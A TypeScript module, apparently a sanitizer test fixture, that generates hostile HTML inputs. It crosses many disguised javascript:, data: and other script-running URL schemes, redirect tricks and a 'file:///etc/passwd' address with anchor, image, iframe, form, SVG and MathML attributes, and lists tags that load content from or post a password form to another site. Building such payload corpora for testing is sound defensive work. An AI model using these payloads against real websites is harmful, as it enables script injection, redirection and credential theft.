import { crossed, ELSEWHERE, RUNS, SCRIPT_ADDRESS } from './payload.ts';

const letters = (text: string, write: (code: number) => string) =>
  [...text].map(letter => write(letter.codePointAt(0) ?? 0)).join('');
const coded = letters('javascript:', code => `&#${code};`);
const inHex = letters('javascript:', code => `&#x${code.toString(16)}`);
const padded = letters('javascript', code => `&#${String(code).padStart(7, '0')}`);
const base64 = Buffer.from(`<script>parent.${RUNS}</script>`).toString('base64');

/** Addresses that run a script, in every disguise that browsers have ever seen through. */
const SCRIPTS = [
  SCRIPT_ADDRESS,
  `JaVaScRiPt:${RUNS}`,
  ` \u0001${SCRIPT_ADDRESS}`,
  `\u00a0${SCRIPT_ADDRESS}`,
  ...['java\tscript', 'java\nscript', 'java\r\nscript', 'j\ta\nv\ra\u0000script'].map(scheme => `${scheme}:${RUNS}`),
  ...['java&Tab;script', 'java&NewLine;script', 'java&#x0A;script', 'jav&#9;ascript'].map(name => `${name}:${RUNS}`),
  ...['javascript&colon;', 'javascript&#58;', 'javascript&#x3A', '&#1;javascript:'].map(name => `${name}${RUNS}`),
  ...[coded, inHex, `${padded}:`, 'javascript\u00ad:', 'java\u200bscript:', '\ufeffjavascript:'].map(
    name => `${name}${RUNS}`,
  ),
  ...['jаvascript:', 'javaſcript:', 'javascript：', '%6aavascript:', 'javascript%3a'].map(name => `${name}${RUNS}`),
  `javascript://%0a${RUNS}`,
  `javascript://antam.example/%0d%0a${RUNS}`,
  `javascript:/*https://*/${RUNS}`,
  `javascript:\`https://a.vn/\`;${RUNS}`,
  `#\njavascript:${RUNS}`,
  `https:javascript:${RUNS}`,
  `vbscript:${RUNS}`,
  `livescript:${RUNS}`,
  `mocha:${RUNS}`,
  `feed:${SCRIPT_ADDRESS}`,
  `view-source:javascript:1`,
  `data:text/html,<script>${RUNS}</script>`,
  `data:text/html;base64,${base64}`,
  `DATA:,${RUNS}`,
  `data:image/svg+xml,<svg onload=${RUNS} xmlns='http://www.w3.org/2000/svg'/>`,
  `data:application/xhtml+xml,a`,
  `blob:https://${ELSEWHERE}/1`,
  `filesystem:https://${ELSEWHERE}/a`,
  'file:///etc/passwd',
  `intent://a#Intent;end`,
  `mailto:a@${ELSEWHERE}`,
  'tel:113',
  'sms:113',
  'about:blank',
  `ws://${ELSEWHERE}/`,
  `jar:https://${ELSEWHERE}!/`,
  `//${ELSEWHERE}/`,
  `\\\\${ELSEWHERE}\\`,
  `/\\${ELSEWHERE}/`,
  `/\t/${ELSEWHERE}/`,
  `///${ELSEWHERE}/`,
  `https:${ELSEWHERE}`,
  `http:\\\\${ELSEWHERE}`,
  `/uploads/../..//${ELSEWHERE}`,
  `/uploads/%2e%2e/${ELSEWHERE}`,
];

/** Where an address stands that a browser opens or loads, by itself or at a click. */
const PLACES: ReadonlyArray<(address: string) => string> = [
  address => `<a href="${address}">a</a>`,
  address => `<a title=b href='${address}' target=_top rel=opener ping=//${ELSEWHERE}/>a</a>`,
  address => `<img src="${address}" alt="a">`,
  address => `<iframe src="${address}"></iframe>`,
  address => `<form action="${address}"><button formaction="${address}">a</button></form>`,
  address => `<svg><a xlink:href="${address}"><text y=9>a</text></a></svg>`,
  address => `<math><mi href="${address}" xlink:href="${address}">a</mi></math>`,
  address => `<object data="${address}"><embed src="${address}"></object>`,
];

/** What loads something from another site, or leads there, without a script. */
const LOADS = [
  `<img srcset="//${ELSEWHERE}/a.png 1x, //${ELSEWHERE}/b.png 2x">`,
  `<base href="//${ELSEWHERE}/">`,
  `<picture><source srcset="//${ELSEWHERE}/a.webp"><img src=x></picture>`,
  `<bgsound src="//${ELSEWHERE}/">`,
  `<img src="https://${ELSEWHERE}/a.png">`,
  `<img/src=//${ELSEWHERE}/a.png lowsrc=//${ELSEWHERE}/b>`,
  `<body background="//${ELSEWHERE}/a.png">`,
  `<table background="//${ELSEWHERE}/a.png"><tr><td>a</table>`,
  `<td background="//${ELSEWHERE}/a.png">`,
  `<video poster="//${ELSEWHERE}/a.png" src="//${ELSEWHERE}/a">`,
  `<link rel="prefetch" href="//${ELSEWHERE}/">`,
  `<link rel="dns-prefetch" href="//${ELSEWHERE}/">`,
  `<link rel="stylesheet" href="//${ELSEWHERE}/a.css">`,
  `<link rel="manifest" href="//${ELSEWHERE}/m">`,
  `<meta http-equiv="refresh" content="0;url=//${ELSEWHERE}/">`,
  `<input type=image src="//${ELSEWHERE}/a">`,
  `<meta http-equiv=refresh content="0;${SCRIPT_ADDRESS}">`,
  `<meta http-equiv="set-cookie" content="a=1">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<track src="//${ELSEWHERE}/a.vtt">`,
  `<form action="//${ELSEWHERE}/"><input name=p type=password></form>`,
  `<isindex action=//${ELSEWHERE}/>`,
  `<button form=q formaction="//${ELSEWHERE}/">a</button>`,
  `<frame src="//${ELSEWHERE}/">`,
  `<blockquote cite="//${ELSEWHERE}/">a</blockquote>`,
  `<applet code="//${ELSEWHERE}/a.class"></applet>`,
  `<portal src="//${ELSEWHERE}/"></portal>`,
  `<fencedframe src="//${ELSEWHERE}/"></fencedframe>`,
  `<svg><image href="//${ELSEWHERE}/a.png"/></svg>`,
  `<svg><use href="//${ELSEWHERE}/a.svg#b"/></svg>`,
  `<svg><feImage href="//${ELSEWHERE}/a.svg"/></svg>`,
  `<html manifest="//${ELSEWHERE}/m">`,
];

/** Hostile addresses in every place that holds an address. */
export const ADDRESSES: readonly string[] = [...crossed(PLACES, SCRIPTS, (write, address) => write(address)), ...LOADS];
